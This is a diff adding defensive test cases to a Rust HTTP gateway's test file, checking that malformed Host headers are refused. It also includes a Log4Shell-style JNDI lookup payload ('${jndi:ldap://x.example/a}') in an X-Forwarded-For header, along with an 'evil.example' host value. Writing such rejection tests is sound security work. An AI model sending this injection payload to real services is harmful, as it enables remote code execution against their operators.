@@ -127,6 +127,13 @@ async fn ambiguous_messages_are_refused() {
     assert_said(&said(&gw, &misled).await, 400, "request.header");
     let no_host = format!("GET {path} HTTP/1.1\r\nconnection: close\r\n\r\n");
     assert_said(&said(&gw, &no_host).await, 400, "request.header");
+    for host in ["localhost@evil.example", "localhost/x", "", "a b"] {
+        let odd = format!("GET {path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n");
+        assert_said(&said(&gw, &odd).await, 400, "request.header");
+    }
+    let logged = "x-forwarded-for: ${jndi:ldap://x.example/a}";
+    let logged = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n{logged}\r\nconnection: close\r\n\r\n");
+    assert_said(&said(&gw, &logged).await, 400, "request.header");
     let two_lengths = format!(
         "POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1\r\ncontent-length: 2\r\nconnection: close\r\n\r\nab"
     );
